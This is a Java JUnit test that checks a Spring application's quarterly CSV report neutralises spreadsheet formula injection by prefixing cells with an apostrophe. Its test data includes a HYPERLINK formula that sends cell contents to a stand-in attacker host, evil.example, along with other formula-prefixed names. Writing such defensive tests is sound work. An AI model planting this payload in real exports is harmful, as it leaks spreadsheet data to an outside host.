package uk.tidemark.app.web;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import uk.tidemark.app.fixture.ApiClient;
import uk.tidemark.app.fixture.ApiClient.Reply;
import uk.tidemark.app.fixture.CaseFixture;
import uk.tidemark.app.fixture.RunningApp;

import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.tidemark.app.fixture.CaseFixture.caseBody;
import static uk.tidemark.app.fixture.TestAccounts.*;

/**
 * Issue 12 item 4: a setting an administrator names like a spreadsheet formula reaches the trustees' quarterly CSV
 * as text, never as a live formula (OWASP CSV injection), while the counts stay numbers.
 */
@RunningApp
class CsvInjectionTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    @Autowired
    ApiClient api;
    @Autowired
    CaseFixture cases;

    @Test
    void aSettingNamedLikeAFormulaArrivesInTheQuarterlyCsvNeutralised() throws IOException {
        for (String name : List.of(FORMULA, "+1+1 School", "-2+3 Centre", "@SUM(A1) Academy")) {
            Reply created = api.post(ADMIN, "/api/admin/settings", Map.of("name", name, "trustId", "trust-1"));
            assertThat(created.status()).as("%s", created).isEqualTo(201);
        }
        cases.logCase(DSL_A, caseBody());

        HttpResponse<byte[]> r = api.download(TRUSTEE, "/api/reports/quarterly.csv");
        assertThat(r.statusCode()).isEqualTo(200);
        String text = new String(r.body(), StandardCharsets.UTF_8);
        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"");

        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build())) {
            rows = parser.getRecords();
        }
        assertThat(rows.stream().map(row -> row.get("setting")).distinct())
                .contains("'" + FORMULA, "'+1+1 School", "'-2+3 Centre", "'@SUM(A1) Academy");
        assertThat(rows).allSatisfy(row -> row.forEach(cell -> assertThat(cell)
                .as("no cell a spreadsheet would evaluate").doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")));
        // the counts are numbers, written bare; a suppressed one is an empty value beside its words
        assertThat(text).containsPattern("\r\n[^\r\n]*,Alder School,Summary,Cases logged,count,,true,fewer than 5,\r\n")
                .containsPattern("\r\n[^\r\n]*,Alder School,Summary,Cases logged,count,0,false,0,\r\n");
    }
}
